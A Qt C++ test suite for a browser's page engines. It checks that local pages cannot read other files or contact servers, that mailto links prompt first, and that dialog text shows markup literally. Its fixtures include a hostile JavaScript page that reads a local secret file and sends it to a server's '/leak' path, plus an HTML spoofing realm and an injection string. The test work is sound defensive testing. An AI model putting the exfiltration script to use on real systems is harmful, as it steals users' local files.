// What pages may do in both engines: a local page reads no other local file and reaches no server
// with scripts, yet the start site keeps its stylesheet and local links to the web open; a page of
// the web opens no local file; links to other programs ask first; server text shows literally.
#include "browser/ChromiumView.h"
#include "browser/FormIdentityAuth.h"
#include "browser/WebControlView.h"
#include "common/Dialogs.h"
#include "shell/FormMain.h"
#include "support/EngineTestMain.h"
#include "support/TestDb.h"
#include "support/WindowTestKit.h"

#include <QDesktopServices>
#include <QLabel>
#include <QTextDocument>

namespace {

// A page filling its window with one link to href.
QByteArray LinkPage(const QString& title, const QString& href) {
    return QStringLiteral("<title>%1</title><a href='%2' style='position:fixed;inset:0;width:100%;"
                          "height:100%'>link</a>").arg(title, href).toUtf8();
}

// Writes the file and answers its address.
QString WriteFile(const QTemporaryDir& folder, const QString& name, const QByteArray& data) {
    QFile file(folder.filePath(name));
    return file.open(QIODevice::WriteOnly) && file.write(data) ? QUrl::fromLocalFile(file.fileName()).toString() : "";
}

// One page in either engine, driven only through what the browser itself uses.
class TEnginePage {
public:
    explicit TEnginePage(bool chromium) {
        m_parent.resize(800, 600);
        if (chromium) {
            auto* view = new TChromiumView(&m_parent);
            QObject::connect(view, &TChromiumView::titleChange, [this](const QString& t) { m_title = t; });
            m_page = view;
        } else if (TWebControlView* control = CreateWebControlView(&m_parent)) {
            QObject::connect(control, &TWebControlView::titleChange, [this](const QString& t) { m_title = t; });
            m_page = control;
        }
        if (m_page)
            m_page->Widget()->resize(m_parent.size());
        m_parent.show();
    }
    TPageView* operator->() const { return m_page; }
    bool Ok() const { return m_page; }
    // Opens the address (as the program does) and waits until the page shows the title.
    bool Open(const QString& url, const QString& title) {
        m_page->Navigate(url);
        return QTest::qWaitFor([&] { return m_title == title && !m_page->IsLoading(); }, LoadTimeout);
    }
    QString Title() const { return m_title; }
    // A real click into the page (where the link pages have their link).
    void Click() { QTest::mouseClick(m_page->Widget()->focusProxy(), Qt::LeftButton, Qt::NoModifier, {50, 50}); }

private:
    QWidget m_parent;
    TPageView* m_page = nullptr;
    QString m_title;
};

// Records the addresses the desktop would have opened.
class TDesktopOpener : public QObject {
    Q_OBJECT
public:
    TDesktopOpener() { QDesktopServices::setUrlHandler(QStringLiteral("mailto"), this, "open"); }
    ~TDesktopOpener() override { QDesktopServices::unsetUrlHandler(QStringLiteral("mailto")); }
    QList<QUrl> Opened;
public slots:
    void open(const QUrl& url) { Opened.append(url); }
};

// QLabel's own rule: text is shown literally unless the format is left to its guess of rich text.
bool ShowsLiterally(const QLabel* label) {
    return label->textFormat() == Qt::PlainText ||
           (label->textFormat() == Qt::AutoText && !Qt::mightBeRichText(label->text()));
}

} // namespace

class TestEngineSecurity : public QObject {
    Q_OBJECT
    TTestServer m_server;
    QTemporaryDir m_folder;

private slots:
    void initTestCase() {
        QStandardPaths::setTestModeEnabled(true);
        QVERIFY2(m_server.Running(), qPrintable(m_server.ErrorText()));
    }
    void cleanup() { SetPageMsgBoxFunction(nullptr); }
    void localPages_data() {
        QTest::addColumn<bool>("chromium");
        QTest::newRow("chromium") << true;
        QTest::newRow("compatibility engine") << false;
    }
    void localPages();
    void otherProgramsLinkAsksFirst();
    void serverAndPageTextShowsLiterally();
};

void TestEngineSecurity::localPages() {
    QFETCH(bool, chromium);
    m_server.ResetStats();
    WriteFile(m_folder, "secret.txt", "SECRET-TEXT");
    // A hostile local page: each attempt reports in the title, what was read goes on to the server.
    const QString hostile = WriteFile(m_folder, "hostile.html", QByteArray(R"(<title>start</title><script>
var server = 'http://127.0.0.1:PORT', results = [];
function report(text) {
  results.push(text); if (text) new Image().src = server + '/leak?' + encodeURIComponent(text);
  if (results.length == 5) document.title = 'done ' + results.join(' ');
}
function xhr(url, frame) {
  var x = new (frame ? frame.contentWindow.XMLHttpRequest : XMLHttpRequest)(); x.open('GET', url, true);
  x.onload = function() { report(x.responseText); }; x.onerror = function() { report(''); };
  try { x.send(); } catch (e) { report(''); }
}
function get(url) {
  if (!window.fetch) return report('');
  fetch(url).then(function(r) { return r.text(); }).then(report, function() { report(''); });
}
var frame = document.documentElement.appendChild(document.createElement('iframe'));
xhr('secret.txt'); xhr(server + '/xhr'); xhr(server + '/frame', frame); get('secret.txt'); get(server + '/fetch');
</script>)").replace("PORT", QByteArray::number(m_server.Port())));
    TEnginePage page(chromium);
    QVERIFY(page.Ok());
    page->Navigate(hostile);
    QTRY_VERIFY_WITH_TIMEOUT(page.Title().startsWith(QLatin1String("done")), LoadTimeout);
    QVERIFY2(!page.Title().contains(QLatin1String("SECRET")), qPrintable(page.Title()));
    QVERIFY2(m_server.Stats().isEmpty(), qPrintable(QStringList(m_server.Stats().keys()).join(' ')));

    // Pages get no plug-ins and no Java.
    const QString probe = WriteFile(m_folder, "probe.html", "<script>document.title = 'probe java ' + "
                                    "navigator.javaEnabled() + ' plugins ' + navigator.plugins.length</script>");
    page->Navigate(probe);
    QTRY_COMPARE_WITH_TIMEOUT(page.Title(), QStringLiteral("probe java false plugins 0"), LoadTimeout);

    // The bundled start site keeps its stylesheet's page background (not the engine's white).
    page->Navigate(QUrl::fromLocalFile(QStringLiteral(QUELLON_SOURCE_DIR "/res/site/index.html")).toString());
    QTRY_COMPARE_WITH_TIMEOUT(page->Widget()->grab().toImage().pixelColor(5, 5), QColor(0xf4, 0xf6, 0xfa),
                              LoadTimeout);

    // A local page's link to the web opens; the web page's link to a local file does not.
    const QString local = WriteFile(m_folder, "local.html", LinkPage("local", m_server.Url("/web.html")));
    QVERIFY(m_server.WriteFile("web.html", LinkPage("web", local)));
    QVERIFY(page.Open(local, "local"));
    page.Click();
    QTRY_COMPARE_WITH_TIMEOUT(page.Title(), QStringLiteral("web"), LoadTimeout);
    page.Click();
    QVERIFY(!QTest::qWaitFor([&] { return page.Title() == QLatin1String("local"); }, 3000));
}

// The compatibility engine's tabs (the end-to-end scenario clicks in a Chromium tab).
void TestEngineSecurity::otherProgramsLinkAsksFirst() {
    TDesktopOpener desktop;
    QStringList questions;
    int answer = IDNO;
    SetPageMsgBoxFunction([&](const QString& text, int) {
        questions.append(text);
        return answer;
    });
    QVERIFY(m_server.WriteFile("mail.html", LinkPage("mail", "mailto:someone@example.com")));
    TEnginePage page(false);
    QVERIFY(page.Ok());
    QVERIFY(page.Open(m_server.Url("/mail.html"), "mail"));
    page.Click();
    QTRY_VERIFY_WITH_TIMEOUT(!questions.isEmpty() || !desktop.Opened.isEmpty(), LoadTimeout);
    QVERIFY2(desktop.Opened.isEmpty(), "opened without a question");
    QVERIFY(questions.first().startsWith(QStringLiteral("要打开外部程序处理此链接吗？")));
    QVERIFY(questions.first().contains(QLatin1String("mailto")));

    answer = IDYES;
    page.Click();
    QTRY_COMPARE_WITH_TIMEOUT(desktop.Opened, QList<QUrl>{QUrl("mailto:someone@example.com")}, LoadTimeout);
    QCOMPARE(questions.size(), 2);
}

void TestEngineSecurity::serverAndPageTextShowsLiterally() {
    // A realm of markup drew a fake host in the visible text and the real one 1 px high.
    TFormIdentityAuth dialog(nullptr);
    dialog.SetPrompt(TFormIdentityAuth::PromptText("<b>bank.example</b><span style='font-size:1px'>",
                                                   "evil.example", 80));
    auto* prompt = dialog.findChild<QLabel*>(QStringLiteral("LabelPrompt"));
    QVERIFY(prompt && prompt->text().contains(QLatin1String("<b>bank.example</b>")));
    QVERIFY(ShowsLiterally(prompt));

    TTestDb data;
    auto window = OpenWindow(data.Db());
    for (const char* name : {"LabelStatus", "LabelAd"}) {
        auto* status = window->findChild<QLabel*>(QLatin1String(name));
        QVERIFY(status);
        status->setText(QStringLiteral("<img src='x'><b>page text</b>"));
        QVERIFY2(ShowsLiterally(status), name);
    }
    CloseMainWindows();
}

QUELLON_ENGINE_TEST_MAIN(TestEngineSecurity)
#include "tst_EngineSecurity.moc"
